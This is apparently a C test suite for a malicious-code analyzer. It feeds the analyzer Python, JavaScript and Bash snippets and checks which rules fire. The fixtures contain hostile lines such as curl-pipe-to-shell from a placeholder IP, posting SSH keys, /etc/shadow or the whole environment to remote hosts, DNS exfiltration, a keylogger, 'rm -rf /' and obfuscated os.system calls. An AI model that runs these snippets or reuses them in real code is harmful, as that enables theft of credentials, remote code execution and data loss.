/* flow.c - what names stand for: branches, loops, functions, classes, containers, other files. */
#include "base/buf.h"
#include "base/cleanup.h"
#include "tap.h"
#include "words.h"

/* More of a kind than a value keeps. */
#define TEN(a, n, b)  a n "0" b a n "1" b a n "2" b a n "3" b a n "4" b a n "5" b a n "6" b a n "7" b a n "8" b a n "9" b
#define FORTY(a, b)   TEN(a, "1", b) TEN(a, "2", b) TEN(a, "3", b) TEN(a, "4", b)

/* `rule` is found, or (with !) is not.  A function that is only mentioned is a finding of its own, so
 * where it is called is said by `@` and the line. */
static const struct { const char *name, *rule; int language; const char *code; } row[] = {
	{ "a branch does not wipe out what held before it", "any/system-write", PY, "p = '/etc/motd'\nif x:\n    p = 'out.txt'\nopen(p, 'w')\n" },
	{ "an else branch counts", "any/system-write", PY, "if x:\n    p = 'a'\nelse:\n    p = '/etc/motd'\nopen(p, 'w')\n" },
	{ "a case of match counts", "any/system-write", PY, "match x:\n    case 1:\n        p = '/etc/motd'\n    case _:\n        p = 'a'\nopen(p, 'w')\n" },
	{ "what an except branch binds counts", "any/system-write", PY, "try:\n    p = 'a'\nexcept OSError:\n    p = '/etc/motd'\nopen(p, 'w')\n" },
	{ "one after the other: the last one holds", "!any/system-write", PY, "p = '/etc/motd'\nopen(p).read()\np = 'out.txt'\nopen(p, 'w')\n" },
	{ "also inside a branch", "!any/system-write", PY, "if x:\n    p = '/etc/motd'\n    open(p).read()\n    p = 'out.txt'\n    open(p, 'w')\n" },
	{ "also in the main part", "!any/system-write", PY, "p = '/etc/motd'\nif __name__ == '__main__':\n    p = 'out.txt'\n    open(p, 'w')\n" },
	{ "either of two functions is called", "python/shell@7", PY, "import os\nf = print\nif x:\n    f = os.system\nelse:\n    f = len\nf('id')\n" },
	{ "what is written by another name of a file", "any/persistence-file@3", PY, "import os\nos.symlink('/etc/crontab', 'out.txt')\nopen('out.txt', 'a').write('x')\n" },
	{ "a link that pathlib makes", "any/secret-read@3", PY, "from pathlib import Path\nPath('k').symlink_to('/etc')\nopen('k/shadow').read()\n" },
	{ "a link that Bash makes", "any/persistence-file@2", BAWN_LANG_BASH, "ln -sf /etc/crontab out.txt\necho x >> ./out.txt\n" },
	{ "a link without a name of its own", "any/persistence-file@2", BAWN_LANG_BASH, "ln -s /etc/crontab\necho x >> crontab\n" },
	{ "to delete a link leaves the file alone", "!any/persistence-file@3", PY, "import os\nos.symlink('/etc/crontab', 'out.txt')\nos.remove('out.txt')\n" },
	{ "a name that only begins like a link", "!any/persistence-file", BAWN_LANG_BASH, "ln -s /etc/crontab out\necho x >> out.txt\n" },
	{ "a call written in YAML", "any/secret-read", PY, "import yaml\nyaml.load('a: !!python/object/apply:os.system [\"cat /etc/shadow\"]', Loader=yaml.Loader)\n" },
	{ "YAML that calls nothing", "!any/secret-read", PY, "import yaml\nyaml.load('a: [\"cat /etc/shadow\"]', Loader=yaml.Loader)\n" },
	{ "a branch in JavaScript", "javascript/child-process@3", JS, "let f = console.log;\nif (x) { f = require('child_process').exec; } else { f = alert; }\nf('id');\n" },
	{ "a loop over known items puts a text together", "any/secret-read", PY, "s = ''\nfor c in [47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]:\n    s += chr(c)\nopen(s).read()\n" },
	{ "a loop that appends", "any/secret-read", PY, "l = []\nfor c in 'wodahs/cte/':\n    l.append(c)\nl.reverse()\nopen(''.join(l[::-1])).read()\nopen('/' + 'etc/sha' + 'dow')\n" },
	{ "a function that decodes, called with a constant", "python/shell@7", PY, "import os\ndef d(s):\n    r = ''\n    for c in s:\n        r += chr(ord(c) ^ 1)\n    return r\ngetattr(os, d('rxrudl'))('id')\n" },
	{ "each call of it for itself", "any/secret-read", PY, "def d(s):\n    return ''.join(chr(ord(c) - 1) for c in s)\na = d('bcd')\nb = d('0fud0tibepx')\nopen(b)\nc = d('xyz')\n" },
	{ "a decoder in JavaScript", "any/secret-read", JS, "function d(a) { let r = ''; for (const c of a) { r += String.fromCharCode(c ^ 2); } return r; }\nrequire('fs').readFileSync(d([45, 103, 118, 97, 45, 113, 106, 99, 102, 109, 117]));\n" },
	{ "all calls of a function count", "any/secret-read", PY, "def show(p):\n    print(open(p).read())\nshow('/etc/shadow')\nshow('a.txt')\n" },
	{ "a list handed to a function", "any/system-write@3", PY, "def drop(files):\n    for f in files:\n        __import__('os').remove(f)\ndrop(['/etc/motd', 'b'])\n" },
	{ "one of two lists", "any/system-write@3", PY, "def drop(files):\n    for f in files:\n        __import__('os').remove(f)\ndrop(['a'])\ndrop(['/etc/motd', 'b'])\n" },
	{ "arguments by keyword", "any/secret-read", PY, "def show(a, path=None):\n    print(open(path).read())\nshow(1, path='/etc/shadow')\n" },
	{ "default arguments", "any/secret-read", PY, "def show(path='/etc/shadow'):\n    print(open(path).read())\nshow()\n" },
	{ "a class attribute is a function", "python/shell@4", PY, "import os\nclass A:\n    run = os.system\nA.run('id')\n" },
	{ "through an object of the class", "python/shell@5", PY, "import os\nclass A:\n    run = os.system\na = A()\na.run('id')\n" },
	{ "a method gives back what it read", "any/exfiltration", PY, "import requests\nclass A:\n    def key(self):\n        return open('/root/.ssh/id_rsa').read()\n    def go(self):\n        requests.post('http://198.51.100.7', data=self.key())\nA().go()\n" },
	{ "what the constructor was given", "any/secret-read", PY, "class A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        return open(self.p).read()\nA('/etc/shadow').go()\n" },
	{ "a table of functions filled later", "python/shell@4", PY, "import os\nt = {}\nt['a'] = os.system\nt['a']('id')\n" },
	{ "the interpreter by its variable", "python/exec-decoded", PY, "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"])\n" },
	{ "a decoder in a lambda", "any/secret-read", PY, "f = lambda s: s[::-1]\nopen(f('wodahs/cte/'))\n" },
	{ "f.call and f.apply", "javascript/child-process@2", JS, "const cp = require('child_process');\ncp.exec.call(null, 'id');\n" },
	{ "what does not parse is still read, line by line", "bash/pipe-to-shell@3", BAWN_LANG_BASH, "if [ 1 ; then\n  true\n  curl http://198.51.100.7/x | sh\ndone\n" },
	{ "with the file's imports", "javascript/child-process@2", JS, "const cp = require('child_process');\nfunction ( { cp.exec('id');\n" },
	{ "what parses is read once", "!any/syntax-error", BAWN_LANG_BASH, "if [ 1 ]; then\n  true\nfi\n" },
	{ "one variable is not the whole environment", "!javascript/send-environment", JS, "fetch('https://example.com', { headers: { a: process.env.TOKEN } });\n" },
	{ "the whole environment is", "javascript/send-environment", JS, "fetch('http://198.51.100.7', { method: 'POST', body: JSON.stringify(process.env) });\n" },
	{ "a file that came from the network, run by a list of words", "any/run-download", PY, "import requests, subprocess\nopen('t', 'wb').write(requests.get('https://example.com').content)\nsubprocess.run(['t'])\n" },
	{ "a file that came from the network, given to an interpreter", "any/run-download", PY, "import urllib.request, subprocess\nurllib.request.urlretrieve('https://example.com', 't.py')\nsubprocess.run(['python3', 't.py'])\n" },
	{ "a file that came from the network, loaded as a module", "any/run-download", PY, "import urllib.request, importlib.util\nurllib.request.urlretrieve('https://example.com', 'm.py')\nimportlib.util.spec_from_file_location('m', 'm.py')\n" },
	{ "a document from the network may be opened", "!any/run-download", PY, "import os, requests\nopen('a.pdf', 'wb').write(requests.get('https://example.com').content)\nos.startfile('a.pdf')\n" },
	{ "a copy holds what the file held", "python/send-secret", PY, "import shutil, requests\nshutil.copy('/etc/shadow', 'x')\nrequests.post('https://example.com', data=open('x').read())\n" },
	{ "an archive in memory holds what was added", "python/send-secret", PY, "import io, tarfile, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add('/etc/shadow')\nrequests.post('https://example.com', data=b.getvalue())\n" },
	{ "what a generator yields", "python/send-secret", PY, "import requests\ndef g():\n    yield open('/etc/shadow').read()\nfor x in g():\n    requests.post('https://example.com', data=x)\n" },
	{ "a word from the network is an argument, not the program", "!bash/shell-of-download", PY, "import requests, subprocess, sys\nv = requests.get('https://example.com').text\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x==' + v])\nsubprocess.run(['python3', 'a.py', v])\n" },
	{ "but not after -c", "bash/shell-of-download", PY, "import requests, subprocess\nsubprocess.run(['bash', '-c', requests.get('https://example.com').text])\n" },
	{ "a program that is written down", "python/exec-network", PY, "f = open('a.py', 'w')\nf.write('import urllib.request\\nexec(urllib.request.urlopen(\"https://example.com\").read())\\n')\n" },
	{ "a text that is written down", "!python/exec-network", PY, "f = open('a.txt', 'w')\nf.write('call exec(urllib.request.urlopen(x).read())')\n" },
	{ "what is seen only later counts", "python/install-network", PY, "import requests\nrequests.get('https://example.com')\nfrom setuptools import setup\nsetup(name='x')\n" },
	{ "a module keeps nothing", "!any/run-download", PY, "import shutil, requests, subprocess\nshutil.copyfileobj(requests.get('https://example.com').raw, f)\nsubprocess.run([shutil.which('git'), 'log'])\n" },
	{ "a path divided by a text is a path", "any/secret-read", PY, "def f(home):\n    return (home / '.ssh' / 'id_rsa').read_text()\n" },
	{ "a file found in a directory lies there", "any/system-write@3", PY, "from pathlib import Path\nfor p in Path('/lib/x').glob('a*'):\n    p.rename(p.with_suffix('.off'))\n" },
	{ "an entry of a directory", "any/system-write@3", PY, "import os\nfor e in os.scandir('/etc/x'):\n    os.unlink(e.path)\n" },
	{ "a list of what was found", "any/system-write@4", PY, "import os\nl = sorted(e.path for e in os.scandir('/etc/x') if e.name)\nfor p in l:\n    os.unlink(p)\n" },
	{ "of the workspace it is nobody's business", "!any/system-write", PY, "from pathlib import Path\nfor p in Path('etc').glob('a*'):\n    p.unlink()\n" },
	{ "a temporary file holds what its descriptor was given", "any/run-download", PY, "import os, subprocess, tempfile, urllib.request\nfd, p = tempfile.mkstemp()\nos.write(fd, urllib.request.urlopen('https://example.com').read())\nsubprocess.run([p])\n" },
	{ "a function handed on with its arguments", "any/system-write@2", PY, "import os, threading\nthreading.Timer(5, os.remove, ['/etc/motd']).start()\n" },
	{ "by keyword", "any/system-write@2", PY, "import os, threading\nthreading.Thread(target=os.remove, args=('/etc/motd',)).start()\n" },
	{ "handed on with a file of its own", "!any/system-write", PY, "import os, threading\nthreading.Thread(target=os.remove, args=('motd',)).start()\n" },
	{ "what a listener hears reaches its function", "python/keys-recorded", PY, "from pynput import keyboard\ndef p(k):\n    f.write(str(k))\nkeyboard.Listener(on_press=p).start()\n" },
	{ "a variable that names the home directory", "any/secret-read", PY, "import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')\n" },
	{ "a text with a gap stays one when it is encoded", "python/data-in-lookup", PY, "import socket, getpass, base64\nh = base64.b64encode(('%s|x' % getpass.getuser()).encode()).hex()\nsocket.gethostbyname('%s.t.example.net' % h)\n" },
	{ "one of several directories", "python/rewrite-found", PY, "import pathlib\ndef f(p):\n    p.write_bytes(b'x')\nfor t in ('Documents', 'Pictures'):\n    for p in (pathlib.Path.home() / t).rglob('*'):\n        f(p)\n" },
	{ "the directory of a file is not the file", "!python/own-text", PY, "import os\nopen(os.path.join(os.path.dirname(__file__), 'a'))\n" },
	{ "a line ends at a carriage return, a comment with it", "any/secret-read", PY, "# hello\ropen('/etc/shadow')\r" },
	{ "and so does the first line of a script", "any/secret-read", JS, "#!/usr/bin/env node\rrequire('fs').readFileSync('/etc/shadow');\n" },
	{ "also at a separator of Unicode", "any/secret-read", JS, "#!/usr/bin/env node\xe2\x80\xa8require('fs').readFileSync('/etc/shadow');\n" },
	{ "the second word for an encoding", "python/coding-cookie", PY, "# coding; coding=utf-7\nx = 1\n" },
	{ "an encoding that is usual", "!python/coding-cookie", PY, "# coding; coding=utf-8\nx = 1\n" },
	/* ways to call that are not spelled as a call of it */
	{ "an attribute set by its name", "bash/pipe-to-shell", PY, "import os\nclass A: pass\na = A()\nsetattr(a, 'x', os.system)\na.x('curl http://198.51.100.7/x | sh')\n" },
	{ "an attribute of a class set by its name", "bash/pipe-to-shell", PY, "import os\nclass A: pass\nsetattr(A, 'go', os.system)\nA().go('curl http://198.51.100.7/x | sh')\n" },
	{ "a name for all modules", "bash/pipe-to-shell", PY, "import os, builtins\nbuiltins.greet = os.system\ngreet('curl http://198.51.100.7/x | sh')\n" },
	{ "an attribute through another name", "bash/pipe-to-shell", PY, "import os\nclass A: pass\na = A()\nb = a\nb.x = os.system\na.x('curl http://198.51.100.7/x | sh')\n" },
	{ "a dictionary under two names", "bash/pipe-to-shell", PY, "import os\nd = {}\na = d\na['x'] = os.system\nd['x']('curl http://198.51.100.7/x | sh')\n" },
	{ "a list under two names", "bash/pipe-to-shell", PY, "import os\nd = []\na = d\na.append(os.system)\nd[0]('curl http://198.51.100.7/x | sh')\n" },
	{ "a copy is not the same", "!any/system-write", PY, "d = {'x': 'out.txt'}\na = dict(d)\na['x'] = '/etc/motd'\nopen(d['x'], 'w')\n" },
	{ "a dictionary that is updated", "bash/pipe-to-shell", PY, "import os\nd = {}\nd.update({'x': os.system})\nd['x']('curl http://198.51.100.7/x | sh')\n" },
	{ "a default that is set", "bash/pipe-to-shell", PY, "import os\nd = {}\nd.setdefault('x', os.system)\nd['x']('curl http://198.51.100.7/x | sh')\n" },
	{ "an operator of the program's own", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __add__(self, o):\n        os.system(o)\nA() + 'curl http://198.51.100.7/x | sh'\n" },
	{ "one for the right side", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __radd__(self, o):\n        os.system(o)\n'curl http://198.51.100.7/x | sh' + A()\n" },
	{ "one that changes in place", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __iadd__(self, o):\n        os.system(o)\na = A()\na += 'curl http://198.51.100.7/x | sh'\n" },
	{ "a comparison", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __lt__(self, o):\n        os.system(o)\nA() < 'curl http://198.51.100.7/x | sh'\n" },
	{ "a subscript", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __getitem__(self, o):\n        os.system(o)\nA()['curl http://198.51.100.7/x | sh']\n" },
	{ "a subscript of a class", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __class_getitem__(cls, o):\n        os.system(o)\nA['curl http://198.51.100.7/x | sh']\n" },
	{ "an object that is called", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __call__(self, o):\n        os.system(o)\na = A()\na('curl http://198.51.100.7/x | sh')\n" },
	{ "what makes an object", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __new__(cls, c): os.system(c)\nA('curl http://198.51.100.7/x | sh')\n" },
	{ "a method of the class below", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def go(self, c): os.system(c)\nclass B(A): pass\nB().go('curl http://198.51.100.7/x | sh')\n" },
	{ "what a context manager gives", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __enter__(self):\n        return os.system\n    def __exit__(self, *a): pass\nwith A() as f:\n    f('curl http://198.51.100.7/x | sh')\n" },
	{ "one that is a generator", "bash/pipe-to-shell", PY, "import os, contextlib\n@contextlib.contextmanager\ndef g():\n    yield 'curl http://198.51.100.7/x | sh'\nwith g() as c:\n    os.system(c)\n" },
	{ "texts of a generator", "bash/pipe-to-shell", PY, "import os\ndef g():\n    yield 'ls'\n    yield 'curl http://198.51.100.7/x | sh'\nfor c in g():\n    os.system(c)\n" },
	{ "of another one", "bash/pipe-to-shell", PY, "import os\ndef g():\n    yield from ['curl http://198.51.100.7/x | sh']\nfor c in g():\n    os.system(c)\n" },
	{ "a function for each item", "bash/pipe-to-shell", PY, "import os\ndef r(c): os.system(c)\nlist(map(r, ['curl http://198.51.100.7/x | sh']))\n" },
	{ "a function that keeps some", "bash/pipe-to-shell", PY, "import os\nlist(filter(lambda c: os.system(c), ['curl http://198.51.100.7/x | sh']))\n" },
	{ "a function over all of them", "bash/pipe-to-shell", PY, "import os, functools\nfunctools.reduce(lambda a, c: os.system(c), ['curl http://198.51.100.7/x | sh'], 0)\n" },
	{ "the rest of the arguments", "bash/pipe-to-shell", PY, "import os\ndef r(*a):\n    os.system(a[0])\nr('curl http://198.51.100.7/x | sh')\n" },
	{ "arguments with names", "bash/pipe-to-shell", PY, "import os\ndef r(**k):\n    os.system(k['c'])\nr(c='curl http://198.51.100.7/x | sh')\n" },
	{ "arguments from a dictionary", "bash/pipe-to-shell", PY, "import os\ndef r(c):\n    os.system(c)\nr(**{'c': 'curl http://198.51.100.7/x | sh'})\n" },
	{ "one of a table of functions", "python/command-from-network", PY, "import subprocess, json, urllib.request\nclass A:\n    def __init__(self):\n        self.d = {'sh': self.g, 'x': self.h}\n    def g(self, a):\n        return subprocess.getoutput(a)\n    def h(self, a):\n        pass\n    def run(self):\n        for t in json.loads(urllib.request.urlopen('https://example.com').read()):\n            self.d[t['k']](t['a'])\n" },
	/* more than can be kept */
	{ "one of forty commands", "any/cut-short", PY, "import os\ndef r(c):\n    os.system(c)\nr('reboot')\n" FORTY("r('echo ", "')\n") },
	{ "one of forty paths that stay here", "any/secret-read", PY, "def r(p):\n    open(p)\n" FORTY("r('a", "')\n") "r('/etc/shadow')\n" FORTY("r('b", "')\n") },
	{ "one of forty paths elsewhere", "any/cut-short", PY, "def r(p):\n    open(p)\n" FORTY("r('/srv/", "')\n") },
	{ "forty paths that stay here", "!any/cut-short", PY, "def r(p):\n    open(p)\n" FORTY("r('a", "')\n") },
	{ "a list has room for them", "any/secret-read", PY, "for p in [" FORTY("'a", "',") FORTY("'b", "',") FORTY("'c", "',") FORTY("'d", "',") FORTY("'e", "',") FORTY("'f", "',") FORTY("'g", "',") "'/etc/shadow']:\n    open(p)\n" },
	/* ways that are not followed */
	{ "a descriptor", "python/text-may-run", PY, "import os\nclass D:\n    def __set__(self, i, v):\n        os.system(v)\nclass A:\n    d = D()\nA().d = 'cat /etc/shadow'\n" },
	{ "an attribute that is made up", "python/text-may-run", PY, "import os\nclass A:\n    def __getattr__(self, n):\n        return os.system\nA().foo('cat /etc/shadow')\n" },
	{ "a class that is told of others", "python/text-may-run", PY, "import os\nclass A:\n    def __init_subclass__(cls, c=None):\n        os.system(c)\nclass B(A, c='cat /etc/shadow'): pass\n" },
	{ "a class of classes", "python/text-may-run", PY, "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system(d['c'])\nclass B(metaclass=M):\n    c = 'cat /etc/shadow'\n" },
	{ "a decorator that calls", "python/text-may-run", PY, "import os\ndef g(f):\n    os.system(f())\n@g\ndef f():\n    return 'cat /etc/shadow'\n" },
	{ "what a program says about itself", "python/text-may-run", PY, "\"\"\"cat /etc/shadow\"\"\"\nimport os\nos.system(__doc__)\n" },
	{ "what is only shown", "!python/text-may-run", PY, "import os\nprint('cat /etc/shadow')\nos.system(input())\n" },
	{ "what goes where it is followed", "!python/text-may-run", PY, "import os, requests\nrequests.get('cat /etc/shadow')\nos.system(input())\n" },
	{ "nothing runs a text", "!python/text-may-run", PY, "c = 'cat /etc/shadow'\n" },
	/* what hides a name, or binds it elsewhere */
	{ "a method does not hide a function", "python/shell@4", PY, "from os import system\nclass A:\n    def system(self): pass\nsystem('id')\n" },
	{ "nor does a method in JavaScript", "javascript/child-process@2", JS, "class A { require() {} }\nrequire('child_process').execSync('id');\n" },
	{ "nor does an attribute of a class", "python/shell@4", PY, "from os import system\nclass A:\n    system = print\nsystem('id')\n" },
	{ "nor does a loop over nothing", "python/shell@4", PY, "from os import system as s\nfor s in ():\n    pass\ns('id')\n" },
	{ "nor does a handler", "python/shell@6", PY, "from os import system as s\ntry:\n    pass\nexcept OSError as s:\n    pass\ns('id')\n" },
	{ "nor does a comprehension", "python/shell@3", PY, "from os import system as s\nx = [s for s in [print]]\ns('id')\n" },
	{ "a function sets a name of the file", "any/secret-read", PY, "p = 'a'\ndef f():\n    global p\n    p = '/etc/shadow'\nf()\nopen(p)\n" },
	{ "or of the function around it", "any/secret-read", PY, "def g():\n    p = 'a'\n    def f():\n        nonlocal p\n        p = '/etc/shadow'\n    f()\n    open(p)\ng()\n" },
	{ "a function sees a name as it was when it was called", "any/secret-read", PY, "def f():\n    open(p)\np = '/etc/shadow'\nf()\np = 'a'\n" },
	{ "what a try leaves undone", "any/secret-read", PY, "p = '/etc/shadow'\ntry:\n    1 / 0\n    p = 'a'\nexcept Exception:\n    pass\nopen(p)\n" },
	{ "a condition that only looks like the main part's", "any/secret-read", PY, "p = '/etc/shadow'\nif __name__ == '__main__x':\n    p = 'a'\nopen(p)\n" },
	{ "a round that is cut off", "any/secret-read", PY, "p = ''\nfor c in ['/etc/', 'x', 'shadow']:\n    if c == 'x':\n        continue\n    p += c\nopen(p)\n" },
	{ "a loop that is left", "any/secret-read", PY, "p = ''\nfor c in ['/etc/', 'shadow', 'x', 'y']:\n    if c == 'x':\n        break\n    p += c\nopen(p)\n" },
	{ "one statement under a condition", "any/secret-read", JS, "let p = '/etc/shadow';\nif (x) p = 'a';\nrequire('fs').readFileSync(p);\n" },
	{ "an assignment in passing", "any/secret-read", JS, "let p = '/etc/shadow';\nx && (p = 'a');\nrequire('fs').readFileSync(p);\n" },
	{ "a case that is not taken", "any/secret-read", JS, "let p = '/etc/shadow';\nswitch (x) { case 1: break; default: p = 'a'; }\nrequire('fs').readFileSync(p);\n" },
	{ "a block with names of its own", "any/secret-read", JS, "let p = '/etc/shadow';\n{ let p = 'a'; }\nrequire('fs').readFileSync(p);\n" },
	{ "the fifth module that gives all its names", "python/shell@6", PY, "from a import *\nfrom b import *\nfrom c import *\nfrom d import *\nfrom os import *\nsystem('id')\n" },
	{ "a path with backslashes", "any/browser-data", PY, "import os\nos.listdir(os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb')\n" },
};

static bool is_it(const struct bawn_finding *f, const char *rule)
{
	size_t n = strcspn(rule, "@");
	return strncmp(f->rule, rule, n) == 0 && f->rule[n] == '\0' && (rule[n] == '\0' || (f->path == NULL && f->line == (uint32_t)(rule[n + 1] - '0')));
}

static bool found(const struct bawn_assess_file *file, size_t n, const char *rule)
{
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	bool hit = false;
	if (bawn_assess(file, n, NULL, &a, &err) < 0)
		diag("%s", err.msg);
	for (size_t i = 0; a != NULL && i < a->n_findings; i++)
		hit = hit || is_it(&a->finding[i], rule);
	bawn_assessment_free(a);
	return hit;
}

static void test_rows(void)
{
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f = { .language = row[i].language, .bytes = bawn_span(row[i].code) };
		bool wanted = row[i].rule[0] != '!';
		ok(found(&f, 1, row[i].rule + !wanted) == wanted, "%s", row[i].name);
	}
}

struct part { const char *path, *code; };
static const struct { const char *name, *rule; int language; struct part part[4]; } program[] = {
	{ "a function imported from another file", "python/shell@2", PY,
	  { { NULL, "from helper import run\nrun('id')\n" }, { "helper.py", "import os\nrun = os.system\n" } } },
	{ "a file imported as a module", "python/shell@2", PY,
	  { { NULL, "import lib.helper as h\nh.run('id')\n" }, { "lib/helper.py", "import os\nrun = os.system\n" } } },
	{ "through two files, whatever their order", "python/shell@2", PY,
	  { { NULL, "from a import run\nrun('id')\n" }, { "a.py", "from b import run\n" }, { "b.py", "from os import system as run\n" } } },
	{ "a constant of another file", "any/system-write", PY,
	  { { NULL, "from conf import TARGET\nopen(TARGET, 'w')\n" }, { "conf.py", "TARGET = '/etc/' + 'motd'\n" } } },
	{ "from another file import everything", "any/system-write", PY,
	  { { NULL, "from conf import *\nopen(TARGET, 'w')\n" }, { "conf.py", "TARGET = '/etc/' + 'motd'\n" } } },
	{ "what a function of another file gives back", "python/exec-network", PY,
	  { { NULL, "import net\nexec(net.get())\n" }, { "net.py", "import requests\ndef get():\n    return requests.get('http://198.51.100.7').text\n" } } },
	{ "a secret read in one file and sent by another", "any/exfiltration", PY,
	  { { NULL, "import keys, out\nout.send(keys.load())\n" }, { "keys.py", "def load():\n    return open('/root/.ssh/id_rsa').read()\n" },
	    { "out.py", "import requests\ndef send(x):\n    requests.post('http://198.51.100.7', data=x)\n" } } },
	{ "files that nobody names do not count together", "!any/exfiltration", PY,
	  { { NULL, "print(1)\n" }, { "keys.py", "def load():\n    return open('/root/.ssh/id_rsa').read()\n" },
	    { "out.py", "import requests\ndef send(x):\n    requests.post('http://198.51.100.7', data=x)\n" } } },
	{ "require of another file", "javascript/child-process@2", JS,
	  { { NULL, "const { run } = require('./lib/helper');\nrun('id');\n" }, { "lib/helper.js", "const run = require('child_process').exec;\nmodule.exports = { run };\n" } } },
	{ "import of another file", "javascript/child-process@2", JS,
	  { { NULL, "import { run } from './helper.js';\nrun('id');\n" }, { "helper.js", "import { exec } from 'child_process';\nexport const run = exec;\n" } } },
};

static void test_programs(void)
{
	for (size_t i = 0; i < BAWN_LEN(program); i++) {
		struct bawn_assess_file file[BAWN_LEN(program[i].part)];
		size_t n = 0;
		for (; n < BAWN_LEN(program[i].part) && program[i].part[n].code != NULL; n++)
			file[n] = (struct bawn_assess_file){ .path = program[i].part[n].path, .language = program[i].language, .bytes = bawn_span(program[i].part[n].code) };
		bool wanted = program[i].rule[0] != '!';
		ok(found(file, n, program[i].rule + !wanted) == wanted, "%s", program[i].name);
	}
}

/* More findings than are kept while reading; what counts stands behind them. */
static void test_flood(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	bawn_buf_str(&b, "import hashlib\n");
	for (int i = 0; i < 6000; i++)
		bawn_buf_str(&b, "hashlib.md5(b'x')\n");
	bawn_buf_str(&b, "open('/etc/shadow')\n");
	struct bawn_assess_file f = { .language = PY, .bytes = bawn_buf_span(&b) };
	ok(found(&f, 1, "any/secret-read"), "a flood of small findings does not push out a large one");
}

/* More files and more waiting rules than there is room for: what comes last still counts. */
static void test_crowd(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	bawn_buf_str(&b, "import requests, socket, subprocess\nd = requests.get('https://example.com').content\n");
	for (int i = 0; i < 200; i++)
		bawn_buf_fmt(&b, "open('f%d', 'wb').write(d)\nrequests.post('https://example.com', data=socket.gethostname())\n", i);
	bawn_buf_str(&b, "open('last', 'wb').write(d)\nsubprocess.run(['last'])\n"
	                 "requests.post('https://example.com', data=subprocess.check_output(['id']))\nrequests.get('http://198.51.100.7/')\n");
	struct bawn_assess_file f = { .language = PY, .bytes = bawn_buf_span(&b) };
	ok(found(&f, 1, "any/run-download"), "a file is known however many others there are");
	ok(found(&f, 1, "python/command-output-to-drop"), "a rule that waits is not crowded out");
}

/* A name that is longer than names are, and one of more things than it can be. */
static void test_long(void)
{
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	char name[400];
	memset(name, 'a', sizeof name);
	bawn_buf_fmt(&b, "%.*s = '/etc/shadow'\n", (int)sizeof name, name);
	bawn_buf_fmt(&b, "open(%.*s)\n", (int)sizeof name, name);
	for (int i = 0; i < 20; i++)
		bawn_buf_fmt(&b, "if x:\n    p = '%s%d'\n", i == 3 ? "/etc/f" : "f", i);
	bawn_buf_str(&b, "open(p, 'w')\nimport os\nfor c in [");
	for (int i = 0; i < 200; i++)
		bawn_buf_fmt(&b, "'true %d', ", i);
	bawn_buf_str(&b, "'rm -rf /']:\n    os.system(c)\n");
	struct bawn_assess_file f = { .language = PY, .bytes = bawn_buf_span(&b) };
	ok(found(&f, 1, "any/secret-read"), "a very long name is a name");
	ok(found(&f, 1, "any/system-write"), "one of twenty values counts");
	ok(found(&f, 1, "any/destroys-everything"), "the last of many commands counts");
}

/* Work that uses up what may be read again, before a function that decodes. */
static void test_starved(void)
{
	static const char decoder[] = "def d(s):\n    return ''.join(chr(ord(c) ^ 1) for c in s)\n";
	bawn_auto_buf b = BAWN_BUF(1u << 20);
	bawn_buf_str(&b, decoder);
	for (int i = 0; i < 60; i++)
		bawn_buf_fmt(&b, "x%d = [d('abcdefghijklmnopqrstuvwxyz') for y in range(200)]\n", i);
	bawn_buf_str(&b, "exec(d('hlqnsu!nr:nr/rxrudl)&hee(hlqnsu!nr:nr/rxrudl)&hee(hlqnsu!nr:nr/rxrudl)&hee('))\n");
	struct bawn_assess_file f = { .language = PY, .bytes = bawn_buf_span(&b) };
	ok(found(&f, 1, "any/cut-short") || found(&f, 1, "python/exec-built"), "what is too much to follow is said");
}

int main(void)
{
	test_starved();
	test_long();
	test_crowd();
	test_flood();
	test_rows();
	test_programs();
	return done_testing();
}
